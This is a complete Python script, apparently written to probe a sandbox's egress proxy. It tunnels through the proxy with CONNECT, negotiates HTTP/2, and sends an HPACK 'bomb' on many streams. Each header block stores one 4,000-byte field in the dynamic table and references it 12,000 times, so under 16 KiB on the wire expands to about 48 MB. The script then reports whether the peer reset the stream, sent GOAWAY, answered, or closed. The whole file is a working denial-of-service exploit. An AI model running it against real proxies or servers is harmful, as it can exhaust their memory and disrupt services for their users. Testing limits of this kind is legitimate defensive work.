#!/usr/bin/python3
"""usage: hpack-bomb.py HOST:PORT STREAMS: inside the sandbox, through the egress proxy (its
https_proxy), a CONNECT to HOST:PORT whose TLS the proxy ends, HTTP/2 (ALPN h2), and on each
of STREAMS streams one header block a little under 16 KiB on the wire that decodes to about
48 MB: a 4,000-byte field put in the HPACK dynamic table once, then named again by its
one-byte index 12,000 times. Prints what came back on the first stream: RST_STREAM (and its
error code), GOAWAY, HEADERS, or that the connection closed."""
import os, socket, ssl, struct, sys

target, streams = sys.argv[1], int(sys.argv[2])
proxy_host, proxy_port = os.environ["https_proxy"].split("//")[1].split(":")
raw = socket.create_connection((proxy_host, int(proxy_port)))
raw.sendall(b"CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target.encode(), target.encode()))
raw.recv(4096)
context = ssl.create_default_context()
context.set_alpn_protocols(["h2"])
conn = context.wrap_socket(raw, server_hostname=target.split(":")[0])
assert conn.selected_alpn_protocol() == "h2", conn.selected_alpn_protocol()


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value, prefix_bits, first_byte_flags):  # RFC 7541 §5.1
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte_flags | value])
    out, value = [first_byte_flags | limit], value - limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def string(text):
    return integer(len(text), 7, 0) + text


def bomb():
    block = b"\x83\x87"  # :method POST, :scheme https
    block += b"\x04" + string(b"/test.Echo/Allowed")  # :path, literal, name indexed
    block += b"\x01" + string(target.encode())  # :authority
    block += b"\x40" + string(b"x-big") + string(b"a" * 4000)  # into the dynamic table: index 62
    return block + b"\xbe" * 12000  # that field, again and again


conn.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
for n in range(streams):
    conn.sendall(frame(1, 0x4 | 0x1, 1 + 2 * n, bomb()))  # HEADERS, END_HEADERS | END_STREAM

buffer = b""
conn.settimeout(20)
while True:
    while len(buffer) < 9 or len(buffer) < 9 + int.from_bytes(buffer[:3], "big"):
        try:
            chunk = conn.recv(65536)
        except (OSError, socket.timeout):
            chunk = b""
        if not chunk:
            print("closed")
            sys.exit(0)
        buffer += chunk
    length, kind, stream = int.from_bytes(buffer[:3], "big"), buffer[3], int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF
    payload, buffer = buffer[9:9 + length], buffer[9 + length:]
    if kind == 3 and stream == 1:
        print("RST_STREAM", int.from_bytes(payload, "big"))
        sys.exit(0)
    if kind == 7:
        print("GOAWAY", int.from_bytes(payload[4:8], "big"))
        sys.exit(0)
    if kind == 1 and stream == 1:
        print("HEADERS")
        sys.exit(0)
